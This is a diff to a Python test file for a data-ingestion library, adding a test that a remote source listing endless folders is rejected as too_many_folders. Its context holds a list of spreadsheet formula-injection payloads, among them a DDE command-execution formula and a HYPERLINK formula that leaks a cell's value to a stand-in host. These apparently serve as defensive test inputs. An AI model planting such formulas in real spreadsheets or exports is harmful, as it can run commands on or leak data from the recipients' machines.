@@ -10,7 +10,7 @@ import zipfile
 from collections.abc import Callable, Iterator
 from contextlib import closing
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from pathlib import Path
+from pathlib import Path, PurePosixPath
 
 import pytest
 import xlsxwriter
@@ -23,6 +23,7 @@ from lake import sources
 from lake.engines.duckdb import connect
 from lake.loading import deliveries, ingest, raw
 from lake.sources import files, rest, sftp
+from lake.sources.places import remote
 from tests.factories.deliveries import NOW, a_contract, a_folder, a_registry_with, an_item
 
 FORMULAS = ["=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://x/"&A1)']
@@ -334,3 +335,14 @@ def _say(server: socket.socket, text: bytes) -> None:
     for _ in range(3):
         with server.accept()[0] as talk:
             talk.sendall(text)
+
+
+def test_a_server_that_makes_up_folders_without_end_is_left(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Endless:
+        def entries(self, folder: PurePosixPath) -> list[remote.Entry]:
+            return [remote.Entry(folder, f"f{number}", 0, 0.0, folder=True) for number in range(50)]
+
+    monkeypatch.setattr(remote, "MOST_FOLDERS", 200)
+    with pytest.raises(SourceUnreadable) as error:
+        remote.meeting(Endless(), "**/*.csv")  # type: ignore[arg-type]
+    assert error.value.code == "too_many_folders"
